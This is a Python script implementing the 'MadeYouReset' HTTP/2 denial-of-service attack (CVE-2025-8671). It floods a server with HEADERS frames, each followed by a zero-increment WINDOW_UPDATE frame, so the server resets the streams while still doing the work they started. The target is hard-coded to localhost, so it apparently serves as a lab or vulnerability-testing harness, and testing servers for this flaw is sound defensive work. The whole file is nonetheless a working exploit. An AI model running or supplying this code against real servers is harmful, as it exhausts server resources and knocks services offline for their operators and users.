"""MadeYouReset (CVE-2025-8671): the client never sends RST_STREAM; each
request is followed by a frame that makes the server reset the stream
itself (WINDOW_UPDATE with a zero increment: a stream error), so the
streams stop counting against the concurrency limit while the work they
started goes on. Prints how many requests it sent."""
import socket
import struct
import sys

import h2raw as h


def attack(port, count, path=b"/hello.php", batch=200, source=None):
    s = socket.create_connection(("127.0.0.1", port), source_address=(source, 0) if source else None)
    s.sendall(h.PREFACE + h.settings())
    block = h.request_block(path)
    sent, stream = 0, 1
    try:
        while sent < count:
            out = bytearray()
            for _ in range(min(batch, count - sent)):
                out += h.frame(h.HEADERS, h.END_STREAM | h.END_HEADERS, stream, block)
                out += h.frame(h.WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
                stream += 2
                sent += 1
            s.sendall(out)
            h.discard_available(s)
    except (BrokenPipeError, ConnectionResetError):
        pass
    finally:
        s.close()
    return sent


if __name__ == "__main__":
    print(attack(int(sys.argv[1]), int(sys.argv[2])))
